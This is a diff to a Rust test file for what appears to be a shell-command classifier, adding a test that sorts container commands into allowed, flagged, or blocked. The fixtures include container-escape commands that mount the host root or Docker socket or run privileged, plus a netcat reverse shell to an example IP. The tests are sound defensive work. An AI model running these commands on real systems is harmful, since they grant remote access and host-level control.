@@ -3,6 +3,7 @@
 
 use super::tests_support::{attack, flows};
 use super::Effect;
+use crate::types::Decision;
 
 #[test]
 fn a_shell_in_a_string_runs_even_after_a_flag_that_sets_shells_elsewhere() {
@@ -83,4 +84,32 @@ fn ssh_command_options_passed_through_wrappers_run() {
         Effect::Shell,
     );
     flows("parallel-ssh -O StrictHostKeyChecking=no -H app01 uptime");
+}
+
+#[test]
+fn a_shell_inside_a_container_is_the_containers_unless_it_reaches_the_host() {
+    // Contained: the shell sees the image, not the host.
+    flows("docker run --rm -it --entrypoint /bin/sh alpine");
+    flows("docker exec -it web sh");
+    flows("podman run -it fedora:40 bash");
+    attack("docker run --rm -it ubuntu:24.04 bash", Effect::Container);
+    // A pod is a running service: a shell in it waits for a human.
+    attack(
+        "kubectl exec -it deploy/api -- /bin/bash",
+        Effect::InfraChange,
+    );
+    // The host's root, the Docker socket or full privileges: the host's shell.
+    for cmd in [
+        "docker run --rm -it -v /:/host alpine chroot /host sh",
+        "docker run --rm -it -v /var/run/docker.sock:/var/run/docker.sock docker:cli sh",
+        "docker run --rm -it --privileged ubuntu bash",
+    ] {
+        attack(cmd, Effect::PrivilegeEscalation);
+        assert_eq!(super::tests_support::verdict(cmd), Decision::Block, "{cmd}");
+    }
+    // What the container's shell is told to do is still judged.
+    attack(
+        "docker run --rm alpine sh -c 'nc -e /bin/sh 203.0.113.7 4444'",
+        Effect::Shell,
+    );
 }
